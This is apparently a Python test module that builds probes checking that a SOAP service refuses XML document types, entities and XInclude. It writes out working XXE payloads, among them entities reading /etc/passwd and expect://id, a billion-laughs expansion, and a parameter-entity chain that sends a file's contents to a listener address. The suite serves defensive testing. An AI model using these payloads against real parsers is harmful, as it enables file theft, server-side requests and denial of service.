"""Document types and entities, which are neither expanded nor fetched, and what else reaches outside the document (rule 14)."""

from hostile.letters import SOAP
from hostile.probe import VALID, Headers, Probe, of_type, probe, swapped

LISTENER = "127.0.0.1:9"
"""Where documents point; a test that really listens puts its own address here."""
_DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>\n'
_REASON = "Ont i knät"


def _with_type(document_type: str, reason: str = _REASON, before: str = "") -> str:
    return swapped(VALID, _DECLARATION, f"{_DECLARATION}{before}{document_type}\n").replace(_REASON, reason)


def _laughs(entities: int, each: int) -> str:
    """An entity made of entities made of entities: each**entities words, were it expanded."""
    rows = "".join(f"<!ENTITY l{n + 1} '{f'&l{n};' * each}'>" for n in range(entities))
    return f"<!DOCTYPE e [<!ENTITY l0 'lol'>{rows}]>"


_SENDING = (
    "<!DOCTYPE e [<!ENTITY % f SYSTEM 'file:///etc/passwd'>"
    f"<!ENTITY % p '<!ENTITY &#37; s SYSTEM \"http://{LISTENER}/?%f;\">'> %p; %s;]>"
)
_TYPES = (
    ("a type alone", "<!DOCTYPE s:Envelope>", _REASON),
    ("a type of blanks", "<!DOCTYPE   \t\n  s:Envelope\n>", _REASON),
    ("an empty internal subset", "<!DOCTYPE s:Envelope []>", _REASON),
    ("an element declaration", "<!DOCTYPE e [<!ELEMENT e ANY>]>", _REASON),
    ("a default attribute", f"<!DOCTYPE e [<!ATTLIST s:Envelope xmlns:s CDATA '{SOAP}'>]>", _REASON),
    ("an id attribute", "<!DOCTYPE e [<!ATTLIST c:reason id ID #IMPLIED>]>", _REASON),
    ("a notation", "<!DOCTYPE e [<!NOTATION n SYSTEM 'n'>]>", _REASON),
    ("an internal entity", "<!DOCTYPE e [<!ENTITY x 'expanded'>]>", "&x;"),
    ("an internal entity that is not used", "<!DOCTYPE e [<!ENTITY x 'expanded'>]>", _REASON),
    ("an entity with markup", "<!DOCTYPE e [<!ENTITY x '<c:reason/>'>]>", "&x;"),
    ("an entity redefined", "<!DOCTYPE e [<!ENTITY amp 'expanded'>]>", "&amp;"),
    ("an entity of itself", "<!DOCTYPE e [<!ENTITY x '&x;'>]>", "&x;"),
    ("entities of each other", "<!DOCTYPE e [<!ENTITY x '&y;'><!ENTITY y '&x;'>]>", "&x;"),
    ("a thousand million laughs", _laughs(9, 10), "&l9;"),
    ("laughs in breadth", f"<!DOCTYPE e [<!ENTITY x '{'A' * 100_000}'>]>", "&x;" * 10_000),
    ("a file", "<!DOCTYPE e [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>", "&x;"),
    ("a file by its path", "<!DOCTYPE e [<!ENTITY x SYSTEM '/etc/passwd'>]>", "&x;"),
    ("a device that never ends", "<!DOCTYPE e [<!ENTITY x SYSTEM 'file:///dev/zero'>]>", "&x;"),
    ("a folder", "<!DOCTYPE e [<!ENTITY x SYSTEM 'file:///etc/'>]>", "&x;"),
    ("an address", f"<!DOCTYPE e [<!ENTITY x SYSTEM 'http://{LISTENER}/x'>]>", "&x;"),
    ("a public address", f"<!DOCTYPE e [<!ENTITY x PUBLIC '-//X//X' 'http://{LISTENER}/x'>]>", "&x;"),
    ("an address over ftp", f"<!DOCTYPE e [<!ENTITY x SYSTEM 'ftp://{LISTENER}/x'>]>", "&x;"),
    ("an expect address", "<!DOCTYPE e [<!ENTITY x SYSTEM 'expect://id'>]>", "&x;"),
    ("a jar address", f"<!DOCTYPE e [<!ENTITY x SYSTEM 'jar:http://{LISTENER}/x!/y'>]>", "&x;"),
    ("an unparsed entity", "<!DOCTYPE e [<!NOTATION n SYSTEM 'n'><!ENTITY x SYSTEM 'x' NDATA n>]>", _REASON),
    ("an external subset", f"<!DOCTYPE e SYSTEM 'http://{LISTENER}/x.dtd'>", _REASON),
    ("an external subset from a file", "<!DOCTYPE e SYSTEM 'file:///etc/passwd'>", _REASON),
    ("a public external subset", f"<!DOCTYPE e PUBLIC '-//X//X' 'http://{LISTENER}/x.dtd'>", _REASON),
    ("a parameter entity", f"<!DOCTYPE e [<!ENTITY % p SYSTEM 'http://{LISTENER}/p'> %p;]>", _REASON),
    (
        "a parameter entity that sends a file",
        _SENDING,
        _REASON,
    ),
    ("a parameter entity of itself", "<!DOCTYPE e [<!ENTITY % p '&#37;p;'> %p;]>", _REASON),
    ("HTML's type", "<!DOCTYPE html PUBLIC '-//W3C//DTD XHTML 1.0 Strict//EN' 'http://www.w3.org/TR/x.dtd'>", _REASON),
    ("a type that is not well-formed", "<!DOCTYPE>", _REASON),
    ("a type without end", "<!DOCTYPE e [<!ENTITY x 'y'>", _REASON),
)

_AFTER = (
    ("a comment", "<!-- harmless -->"),
    ("a comment with a greater-than", "<!-- > -->"),
    ("a comment about types", "<!-- <!DOCTYPE e> -->"),
    ("an instruction", "<?a b?>"),
    ("many comments", "<!---->" * 20_000),
    ("many instructions and blanks", "<?a?>\r\n\t " * 10_000),
    ("a long comment", f"<!--{'x' * 1_000_000}-->"),
)

_UTF_8: Headers = of_type("text/xml; charset=utf-8")
_ENCODED: tuple[tuple[str, str, str], ...] = (
    ("UTF-16 with BOM", "utf-16", "text/xml"),
    ("UTF-16 little-endian without BOM", "utf-16-le", "text/xml"),
    ("UTF-16 big-endian without BOM", "utf-16-be", "text/xml"),
    ("UTF-8 with BOM", "utf-8-sig", "text/xml"),
    ("ISO-8859-1", "iso-8859-1", "text/xml; charset=iso-8859-1"),
    ("ASCII", "ascii", "text/xml; charset=us-ascii"),
)
_SMALL = f"<!DOCTYPE e [<!ENTITY x SYSTEM 'http://{LISTENER}/x'>]>"

_ELSEWHERE = (
    ("in the envelope", swapped(VALID, "<s:Header>", "<!DOCTYPE e><s:Header>")),
    ("after the envelope", VALID + "<!DOCTYPE e>"),
    ("in a value", VALID.replace(_REASON, "<!DOCTYPE e>")),
)

_INCLUDED = tuple(
    probe(f"XInclude of {what} in {where}", swapped(VALID, before, f"{xml}{before}"), says)
    for what, xml in (
        ("a file", '<i:include xmlns:i="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>'),
        ("an address", f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="http://{LISTENER}/x"/>'),
    )
    for where, before, says in (
        ("a timeslot", "<c:purpose>", "requestedTimeslot"),
        ("a request", "<r:notification>", "notification"),
        ("a value", _REASON, "reason"),
    )
)

PROBES: tuple[Probe, ...] = (
    *(
        probe(f"document type: {name}", _with_type(kind, reason), "DOCTYPE", "entities")
        for name, kind, reason in _TYPES
    ),
    *(probe(f"document type after {name}", _with_type(_SMALL, "&x;", before), "DOCTYPE") for name, before in _AFTER),
    *(
        probe(
            f"document type in {name}",
            _with_type(_SMALL, "&x;").replace(_DECLARATION, "").replace("ö", "o").replace("ä", "a").encode(codec),
            "DOCTYPE",
            headers=of_type(content_type),
        )
        for name, codec, content_type in _ENCODED
    ),
    *(probe(f"document type {name}", body, "not well-formed") for name, body in _ELSEWHERE),
    probe("document type in small letters", _with_type("<!doctype e>"), "not well-formed"),
    probe("document type without declaration", _with_type(_SMALL, "&x;").replace(_DECLARATION, ""), "DOCTYPE"),
    probe(
        "document type behind two BOMs",
        "\ufeff\ufeff" + _with_type(_SMALL, "&x;").replace(_DECLARATION, ""),
        "well-formed",
    ),
    *_INCLUDED,
)
